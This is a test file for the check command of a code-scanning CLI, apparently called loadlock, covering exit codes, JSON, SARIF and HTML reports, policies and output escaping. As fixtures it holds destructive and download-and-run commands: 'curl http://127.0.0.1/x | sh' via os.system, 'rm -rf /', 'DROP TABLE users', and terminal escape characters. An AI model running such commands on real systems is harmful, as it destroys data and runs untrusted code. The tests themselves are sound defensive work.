import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { readArguments } from '../../src/cli/arguments.ts';
import { checkCommand } from '../../src/cli/commands/check.ts';
import { failureText } from '../../src/cli/failure.ts';
import type { Terminal } from '../../src/cli/terminal.ts';
import { loadlock, main, plainEnvironment, type Ran } from './program.ts';

const folder = mkdtempSync(join(tmpdir(), 'loadlock-cli-check-'));
const home = mkdtempSync(join(tmpdir(), 'loadlock-cli-home-'));
after(() => {
  for (const path of [folder, home]) rmSync(path, { recursive: true, force: true });
});

function put(path: string, text: string): string {
  const whole = join(folder, path);
  mkdirSync(join(whole, '..'), { recursive: true });
  writeFileSync(whole, text);
  return whole;
}

const env = { LOADLOCK_HOME: home };
/** Paths in a report are as they were given. */
process.chdir(folder);

/** Runs the command in this process: starting one takes longer than what it does. */
async function check(...words: string[]): Promise<Ran> {
  const written = { stdout: '', stderr: '' };
  const output = (to: keyof typeof written): Terminal['stdout'] => ({
    isTTY: false,
    columns: 0,
    write: (text) => {
      written[to] += Buffer.from(text).toString();
    },
  });
  const terminal = { cwd: folder, env, stdout: output('stdout'), stderr: output('stderr') };
  let code: number;
  try {
    code = await checkCommand.run(readArguments(words, checkCommand.options), terminal);
  } catch (error) {
    code = 2;
    written.stderr += failureText(error, env);
  }
  process.exitCode = 0;
  return { code, ...written };
}

/** With a text on the standard input. */
function piped(text: string, ...words: string[]): Ran {
  const { status, stdout, stderr } = spawnSync(process.execPath, [main, 'check', '-', ...words], {
    cwd: folder,
    env: { ...plainEnvironment, ...env },
    encoding: 'utf8',
    input: text,
  });
  return { code: status, stdout, stderr };
}

const validate = new Ajv2020({ allowUnionTypes: true }).compile(
  JSON.parse(readFileSync(new URL('../../schema/report.json', import.meta.url), 'utf8')) as object,
);

put('good.py', 'def total(numbers):\n    return sum(numbers)\n');
put('bad.py', 'import os\nos.system("curl http://127.0.0.1/x | sh")\n');
put('odd.py', 'import subprocess\n\n\ndef run(command):\n    subprocess.run(command, shell=True)\n');
put('query.sql', 'SELECT a FROM t WHERE b = 1');

test('exit codes: 0 allow, 1 deny, 2 could not decide, 3 review', async () => {
  assert.equal((await check('good.py')).code, 0);
  assert.equal((await check('query.sql')).code, 0);
  assert.equal((await check('bad.py')).code, 1);
  assert.equal((await check('odd.py')).code, 3);
  assert.equal((await check('good.py', 'odd.py', 'bad.py')).code, 1);
  assert.equal((await check('bad.py', '--policy', 'observe')).code, 0);
  assert.equal((await check('odd.py', '-p', 'strict')).code, 1);
});

test('what cannot be decided is 2, in one line on stderr', async () => {
  for (const words of [
    [],
    ['missing.py'],
    ['-', 'good.py'],
    ['good.py', '--language', 'perl'],
    ['good.py', '--context', 'other'],
    ['good.py', '--ruff', 'e'],
    ['good.py', '--ruff', 'ZZZ9'],
    ['good.py', '--yara', 'missing.yar'],
    ['good.py', '--jobs', '0'],
    ['good.py', '--json', '--format', 'html'],
  ]) {
    const { code, stdout, stderr } = await check(...words);
    assert.equal(code, 2, words.join(' '));
    assert.equal(stdout, '');
    assert.match(stderr, /^loadlock: /);
    assert.doesNotMatch(stderr, /\n {4}at /);
  }
});

test('the standard input is taken for what its text is, or what is said', async () => {
  assert.equal(piped('DROP TABLE users').code, 1);
  assert.equal(piped('print(1)\n').code, 0);
  assert.equal(piped('rm -rf /\n').code, 1);
  assert.equal(piped('SELECT 1', '--language', 'sql').code, 0);
  assert.equal(piped('SELECT 1', '--language', 'python').code, 1);
});

test('--json prints one document of the schema and nothing else', async () => {
  const { stdout, stderr } = await check('bad.py', 'good.py', '--metrics', '--json');
  assert.equal(stderr, '');
  assert.ok(validate(JSON.parse(stdout)), JSON.stringify(validate.errors));
  const document = JSON.parse(stdout);
  assert.equal(document.schema, 'loadlock.report/1');
  const [bad, good] = document.targets.map((target: { artifacts: unknown[] }) => target.artifacts[0]);
  assert.equal(bad.findings[0].excerpt.text, 'os.system("curl http://127.0.0.1/x | sh")');
  assert.deepEqual(Object.keys(good.metrics), ['legibility', 'safety']);
  assert.deepEqual(good.capabilities, {});
});

test('where there is nothing to measure, that is said', async () => {
  put('plain.py', 'def next_one(number):\n    return number + 1\n');
  const { stdout } = await check('plain.py', '--metrics');
  assert.match(stdout, /legibility [\d.]+ of 100: /);
  assert.match(stdout, /safety: nothing to measure\n/);
});

test('a person is told the place, the line with a caret, why and what to do', async () => {
  const { stdout } = await check('bad.py', '--metrics');
  assert.match(stdout, /^DENY {2}1 of 1 file must not be run\n/);
  assert.match(stdout, /at bad\.py:2\n/);
  assert.match(stdout, /at bad\.py!os\.system:2\n/);
  assert.match(stdout, /\n +2 │ os\.system\("curl http:\/\/127\.0\.0\.1\/x \| sh"\)\n +│ +\^+\n/);
  assert.match(stdout, /Fix: /);
  assert.match(stdout, /legibility [\d.]+ of 100/);
  assert.doesNotMatch(stdout, /\x1b\[/);
});

test('text of the file reaches no terminal unescaped', async () => {
  put('evil.py', 'import os\nos.system("rm -rf / \x1b[2K\u202e")\n');
  const { stdout } = await check('evil.py');
  assert.doesNotMatch(stdout, /[\x1b\u202e]/);
  assert.match(stdout, /\\x1b\[2K/);
});

test('--quiet prints what was not admitted, a line each', async () => {
  assert.equal((await check('good.py', '--quiet')).stdout, '');
  const { stdout, stderr } = await check('good.py', 'bad.py', '-q');
  assert.match(stdout, /^DENY +bad\.py .*\n$/);
  assert.equal(stderr, '');
});

test('SARIF and HTML, also into a file', async () => {
  const log = JSON.parse((await check('bad.py', '--format', 'sarif')).stdout);
  const [run] = log.runs;
  assert.ok(run.results.every(({ ruleId }: { ruleId: string }) => ruleId !== ''));
  const inner = run.results.find(({ ruleId }: { ruleId: string }) => ruleId === 'shell-runs-download');
  assert.deepEqual(inner.locations[0].physicalLocation.region, {
    startLine: 2,
    snippet: { text: 'os.system("curl http://127.0.0.1/x | sh")' },
  });
  const { code, stdout, stderr } = await check('bad.py', '--format', 'html', '--output', 'report.html');
  assert.deepEqual([code, stdout], [1, '']);
  assert.match(stderr, /must not be run/);
  assert.match(readFileSync(join(folder, 'report.html'), 'utf8'), /<b>os\.system\(/);
});

test('a folder that looks like a model repository is said to be taken for one', async () => {
  put('model/config.json', '{"model_type": "x"}');
  put('model/modeling_x.py', 'import math\n');
  assert.match((await check('model')).stderr, /looks like a model repository/);
  assert.doesNotMatch((await check('model', '--context', 'repo')).stderr, /looks like/);
  assert.doesNotMatch((await check('model', '--quiet')).stderr, /looks like/);
  assert.doesNotMatch((await check('good.py')).stderr, /looks like/);
});

test('the policy of the folder above decides, and one inside of what is checked does not', async () => {
  put('project/loadlock.toml', '[code]\ndeny-modules = ["math"]\n');
  put('project/src/a.py', 'import math\n');
  const inside = loadlock(['check', 'a.py'], { cwd: join(folder, 'project', 'src'), env });
  assert.equal(inside.code, 1);
  assert.match(inside.stdout, /module-not-admitted/);
  assert.equal(loadlock(['check', '.'], { cwd: join(folder, 'project'), env }).code, 0);
});

// The program as it is built: both are packages of their own, found from where the program lies.
test('--yara and --ruff', () => {
  const run = (...words: string[]): Ran => loadlock(['check', ...words], { cwd: folder, env });
  put('mine.yar', 'rule mine { strings: $a = "total" condition: $a }');
  assert.equal(run('good.py', '--yara', 'mine.yar').code, 3);
  put('unused.py', 'import os\n');
  const { code, stdout } = run('unused.py', '--ruff', 'E,F');
  assert.equal(code, 0);
  assert.match(stdout, /F401 `os` imported but unused/);
});

test('the decision is recorded', async () => {
  await check('bad.py');
  const shown = loadlock(['audit', 'show', '--json'], { env });
  assert.equal(shown.code, 0, shown.stderr);
  assert.match(shown.stdout, /bad\.py/);
  assert.ok(existsSync(home));
});

test('help names every option', async () => {
  const { code, stdout } = loadlock(['check', '--help']);
  assert.equal(code, 0);
  for (const option of [
    'language',
    'context',
    'metrics',
    'policy',
    'yara',
    'ruff',
    'no-secrets',
    'format',
    'json',
  ])
    assert.match(stdout, new RegExp(`--${option}`));
});
